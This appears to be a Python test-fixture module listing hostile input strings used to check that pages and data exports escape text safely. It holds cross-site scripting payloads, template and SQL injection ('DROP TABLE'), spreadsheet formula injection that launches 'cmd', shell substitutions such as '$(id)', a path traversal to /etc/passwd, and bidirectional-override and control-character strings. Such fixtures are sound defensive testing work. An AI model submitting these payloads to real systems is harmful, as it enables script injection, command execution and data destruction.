"""Texts that try to be more than text, or more of it than anybody expects."""

CALL = "alert(1)"
ALL_MARKUP = (
    f"<script>{CALL}</script>\"><img src=x onerror={CALL}>'><svg onload={CALL}></script></title></textarea><!--]]>--><b>"
    "{{#item}}{{{page.root}}}{{/item}}{{> partials/head}}&lt;i&gt;&#60;u&#62;%3Cs%3E\\u003cq\\u003e"
)

# What is put into every text of an item at once.
PAYLOADS: dict[str, str] = {
    "script": f"<script>{CALL}</script>",
    "attribute": f'"><img src=x onerror={CALL}>',
    "apostrophe": f"' onmouseover='{CALL}' x='",
    "bare": f"x onfocus={CALL} autofocus",
    "event": f"<svg/onload={CALL}><details open ontoggle={CALL}><a href=javascript:{CALL}>x</a>",
    "javascript": f"javascript:{CALL}",
    "javascript-hidden": f"\u0001 jAvA\tscript:{CALL}",
    "data": f"data:text/html,<script>{CALL}</script>",
    "list-link": f"- [x](javascript:{CALL})\n- <javascript:{CALL}>\n- [y](data:text/html,x) https://a.test/\"onclick={CALL}",
    "link-edges": f"https://a.test/'\"><script>{CALL}</script> http://b.test/?a=1&lt=2&amp;b tel:12345\" mailto:a@b.test?x=\"y",
    "section": "{{#item}}{{name}}{{/item}}",
    "triple": "{{{page.root}}}{{&x}}{{=<% %>=}}<% x %>",
    "partial": "{{> partials/head}}{{! x }}",
    "end-script": f"</script><script>{CALL}</script>",
    "end-title": f"</title></textarea></style></template><script>{CALL}</script>",
    "comment": f"<!-- --!> <!--> <![CDATA[ ]]> <?x ?> <script>{CALL}</script>",
    "entity": "&lt;script&gt;&#x3c;b&#62;&amp;lt;&bogus;&copy",
    "json": '","x":{"$ref":"\\u0000"}},\\"\n\t\u2028\u2029',
    "format": "%s %@ %n $(id) `id` ${x} ../../../../etc/passwd",
    "long-word": "长" * 10_000,
    "long-latin-word": "w" * 10_000,
    "long-name": "很长的名称，" * 340,
    "turned": "正\u202e反过来的字 abc 终",
    "turned-embedded": "正\u202b反过来 abc 终",
    "turned-isolate": "正\u2067反过来 abc 终",
    "turned-back": "正\u202d\u202c\u2069\u202e abc 终",
    "turned-deep": "正" + "\u202e\u2067" * 80 + " abc 终",
    "turned-lines": "正\u2067反\n\n二\u202e反\r\n- 三\u202b反\u2029四\u2069 abc 终",
    "turned-stray": "正\u202c\u2069\u202c\u2069 abc 终",
    "right-to-left": "\u200f\u061cשלום العربية\u200e abc 终",
    "invisible": "零\u200b宽\u200c字\u200d符\ufeff\u00ad\u2060\u180e\u034f 号",
    "emoji": "🏛️👩🏽‍⚖️🇨🇳 e\u0301" + "\u0316\u0317\u0318\u0319" * 40,
    "controls": "\x00\x01\x07\x08\x0b\x0c\x1b[31m\x7f\x85\x9f",
    "unassigned": "\ufffd\ufffe\uffff\U000e0001\U0010ffff\ue000",
    "blank": " \t\u3000\u00a0\n\n ",
    "lines": "一\n\n\n二\r\n三\r四\n" * 50,
}

# What does no harm to a page and may harm the data: formulas, separators, queries, figures that tables change.
DATA_PAYLOADS: dict[str, str] = PAYLOADS | {
    "formula": "=HYPERLINK(\"http://a.test/?\"&A1,\"x\")",
    "formula-plus": "+cmd|' /C calc'!A0",
    "formula-minus": "-2+3+cmd|' /C calc'!A0",
    "formula-at": "@SUM(1+1)*cmd|' /C calc'!A0",
    "formula-tab": "\t=1+1",
    "formula-break": "\r\n=1+1",
    "formula-wide": "＝１＋１",
    "formula-apostrophe": "'=1+1",
    "separators": "甲^乙＾丙,\"丁\";戊|己\t庚\r\n\"\",\"",
    "line-ends": "甲\x0b乙\x0c丙\x1c丁\x1d戊\x1e己\x85庚\u2028辛\u2029壬",
    "query": "'); DROP TABLE items; --",
    "search": "\"甲\" OR * NEAR(乙 丙) name:丁 -戊 ^己 {a b}:c",
    "spelled": "<U+200B><U+003C>",
    "figure": "1.10",
    "figure-of-days": "3-5",
    "figure-of-powers": "12E3",
    "figure-of-many-digits": "000131000000000000000",
    "pointer": "a/b~c~0~1%2F",
    "closing": "]]></summary></entry></feed>",
    "surrogates": "𠮷𠮷𠮷\U0002fa1d",
}
# Addresses of the web as people copy them, and as nobody should.
LINKS: dict[str, str] = {
    "characters": "https://a.test/<b>\"{}|\\^`x",
    "percent": "https://a.test/%zz?%=%&x=%2",
    "hanzi": "https://例子.测试/办事指南?事项=居住证#材料",
    "brackets": "http://[::1/x]#a#b",
    "no-host": "https:///x",
    "port": "https://a.test:99999999/",
    "user": "https://用户:密码@a.test/",
    "controls": "https://a.test/\u0001\u200b\u202ex",
    "spaces": "https://a.test/a b\u3000c",
    "long": "https://a.test/" + "x" * 4000,
}
# A file that an item names, and that stands beside it.
FILE_NAME = "样表 a#b?c%20d&'e'\u3000<b>.pdf"
